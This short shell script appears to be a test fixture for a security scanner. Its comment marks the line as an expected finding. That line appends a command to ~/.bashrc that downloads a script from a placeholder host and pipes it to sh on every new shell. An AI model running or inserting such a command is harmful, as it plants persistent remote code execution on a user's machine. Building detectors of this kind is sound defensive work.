#!/bin/sh
echo 'curl -s https://h.example.org/p.sh | sh' >> ~/.bashrc  # want: finding
